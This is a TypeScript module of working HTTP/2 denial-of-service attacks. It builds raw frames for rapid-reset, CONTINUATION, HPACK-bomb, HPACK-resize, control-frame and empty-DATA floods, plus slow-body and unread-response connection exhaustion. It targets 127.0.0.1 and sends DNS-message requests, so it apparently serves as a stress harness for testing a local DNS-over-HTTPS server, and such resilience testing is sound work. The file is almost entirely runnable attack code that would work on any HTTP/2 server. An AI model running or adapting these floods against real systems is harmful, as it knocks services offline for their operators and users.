/**
 * Attacks over HTTP/2, each run by `attacker.ts`: floods of frames that a server does not refuse at
 * once.
 * @module
 */
import { connect } from 'node:http2'
import { setTimeout as sleep } from 'node:timers/promises'
import {
  type Attack,
  flood,
  OPENED_AT_ONCE,
  OPENING_PAUSE_MS,
  openTls,
  type Tally,
} from './http-attacks.ts'
import { block, type Field, FLAG, FRAME, frame, preface, text, uint32 } from './http2-wire.ts'

/** An attack over HTTP/2. */
export type Http2Attack = Attack & {
  /** Names of `FLOODS`; each connection takes the next one. */
  readonly kinds: readonly string[]
  /** Sent with each request. */
  readonly fields?: readonly Field[]
  readonly path: string
}

const { END_STREAM, END_HEADERS } = FLAG
const FRAMES_EACH = 100
const HEADER_TABLE_INDEX = 62

/** Returns the next bytes to send: `FRAMES_EACH` streams with odd IDs from `id` on. */
type Chunk = (id: number, attack: Http2Attack) => readonly Buffer[]

/** Floods by name. */
const FLOODS: Readonly<Record<string, Chunk>> = {
  'rapid reset': (id, attack) => [
    request(id, attack, END_STREAM),
    frame(FRAME.RST_STREAM, 0, id, uint32(8)),
  ],
  'made you reset': (id, attack) => [
    request(id, attack, END_STREAM),
    frame(FRAME.WINDOW_UPDATE, 0, id, uint32(0)),
  ],
  requests: (id, attack) => [request(id, attack, END_STREAM)],
  CONTINUATION: (id, attack) =>
    id === 1
      ? [frame(FRAME.HEADERS, 0, id, block(fieldsOf(attack)))]
      : [frame(FRAME.CONTINUATION, 0, 1, block([['x-more', 'x'.repeat(100)]]))],
  'HPACK bomb': (id, attack) => {
    const name = Buffer.concat([Buffer.of(0x40), text('x-bomb'), text('x'.repeat(3900))])
    const again = Buffer.alloc(8000, 0x80 | HEADER_TABLE_INDEX)
    const all = Buffer.concat([block(fieldsOf(attack)), name, again])
    return [frame(FRAME.HEADERS, END_STREAM | END_HEADERS, id, all)]
  },
  'HPACK resizes': (id, attack) => {
    // Table size updates from 4,096 bytes to none and back that fill a frame (RFC 7541 §6.3).
    const sizes = Buffer.concat(Array(2000).fill(Buffer.of(0x3f, 0xe1, 0x1f, 0x20)))
    const all = Buffer.concat([sizes, block(fieldsOf(attack))])
    return [frame(FRAME.HEADERS, END_STREAM | END_HEADERS, id, all)]
  },
  SETTINGS: () => [frame(FRAME.SETTINGS, 0, 0, Buffer.of(0, 4, 0, 1, 0, 0))],
  PING: () => [frame(FRAME.PING, 0, 0, Buffer.alloc(8))],
  GOAWAY: () => [frame(FRAME.GOAWAY, 0, 0, Buffer.alloc(8))],
  WINDOW_UPDATE: () => [frame(FRAME.WINDOW_UPDATE, 0, 0, uint32(1))],
  PRIORITY: (id) => [frame(FRAME.PRIORITY, 0, id + 2, Buffer.alloc(5))],
  'empty DATA': (id, attack) =>
    id === 1 ? [request(1, attack, 0, 'POST')] : [frame(FRAME.DATA, 0, 1, Buffer.alloc(0))],
}

/** Floods servers; reconnects whenever the server closes a connection. */
export function http2Flood(attack: Http2Attack): Promise<Tally> {
  return flood(attack, (socket, index) => {
    const kind = attack.kinds[index % attack.kinds.length] ?? ''
    const chunk = FLOODS[kind]
    if (chunk === undefined) throw new TypeError(`there is no flood ${kind}`)
    socket.write(preface())
    socket.resume()
    let id = 1
    return () => {
      const frames: Buffer[] = []
      for (let i = 0; i < FRAMES_EACH; i++, id += 2) frames.push(...chunk(id, attack))
      return Buffer.concat(frames)
    }
  })
}

/** Requests with endless bodies: a byte every `pauseMs`. */
export type Unfinished = Http2Attack & { readonly method: 'GET' | 'POST'; readonly pauseMs: number }

/** Opens connections with requests that send their bodies a byte at a time. */
export async function unfinishedBodies(attack: Unfinished): Promise<Tally> {
  const tally = { connections: 0, closed: 0 }
  const sockets = new Set<ReturnType<typeof openTls>>()
  for (let i = 0; i < attack.count; i++) {
    const socket = openTls(attack, i, ['h2'])
    sockets.add(socket)
    tally.connections++
    socket.resume()
    socket.on('close', () => {
      sockets.delete(socket)
      tally.closed++
    })
    socket.write(Buffer.concat([preface(), request(1, attack, 0, attack.method)]))
    if (i % OPENED_AT_ONCE === OPENED_AT_ONCE - 1) await sleep(OPENING_PAUSE_MS)
  }
  const endMs = Date.now() + attack.holdMs
  while (Date.now() < endMs) {
    for (const socket of sockets) socket.write(frame(FRAME.DATA, 0, 1, Buffer.of(0)))
    await sleep(attack.pauseMs)
  }
  return tally
}

/** Requests whose bodies lack their last bytes. */
export type Held = Http2Attack & { readonly streamsEach: number; readonly bytesEach: number }

/** Opens connections with bodies that wait for their last byte. Returns how many were reset. */
export async function heldBodies(attack: Held): Promise<Tally & { readonly resets: number }> {
  const tally = { connections: 0, closed: 0, resets: 0 }
  const { port, count, streamsEach, bytesEach, path, fields = [] } = attack
  const headers = { ':method': 'POST', ':path': path, 'content-length': bytesEach + 1 }
  const type = { 'content-type': 'application/dns-message', ...Object.fromEntries(fields) }
  for (let i = 0; i < count; i++) {
    const session = connect(`https://127.0.0.1:${port}`, {
      createConnection: () => openTls(attack, i, ['h2']),
    })
    tally.connections++
    session.on('error', () => undefined)
    session.on('close', () => tally.closed++)
    for (let s = 0; s < streamsEach; s++) {
      const stream = session.request({ ...headers, ...type })
      stream.on('error', () => tally.resets++)
      stream.write(Buffer.alloc(bytesEach))
      stream.resume()
    }
    if (i % OPENED_AT_ONCE === OPENED_AT_ONCE - 1) await sleep(OPENING_PAUSE_MS)
  }
  await sleep(attack.holdMs)
  return tally
}

/** Sends many requests and takes no responses: a closed window, or no reads at all. */
export async function unread(attack: Http2Attack): Promise<Tally> {
  const tally = { connections: 0, closed: 0 }
  for (let i = 0; i < attack.count; i++) {
    const socket = openTls(attack, i, ['h2'])
    tally.connections++
    socket.on('close', () => tally.closed++)
    const hasWindow = i % 2 === 0
    if (!hasWindow) socket.resume()
    socket.write(preface([4, hasWindow ? 65_535 : 0]))
    for (let id = 1; id < 400; id += 2) socket.write(request(id, attack, END_STREAM))
    if (i % OPENED_AT_ONCE === OPENED_AT_ONCE - 1) await sleep(OPENING_PAUSE_MS)
  }
  await sleep(attack.holdMs)
  return tally
}

function request(id: number, attack: Http2Attack, flags: number, method = 'GET'): Buffer {
  return frame(FRAME.HEADERS, END_HEADERS | flags, id, block(fieldsOf(attack, method)))
}

function fieldsOf({ path, fields = [] }: Http2Attack, method = 'GET'): readonly Field[] {
  const pseudo: readonly Field[] = [
    [':method', method],
    [':scheme', 'https'],
    [':authority', 'localhost'],
    [':path', method === 'GET' ? path : path.replace(/\?.*/, '')],
  ]
  const body: readonly Field[] =
    method === 'GET' ? [] : [['content-type', 'application/dns-message']]
  return [...pseudo, ...body, ...fields]
}
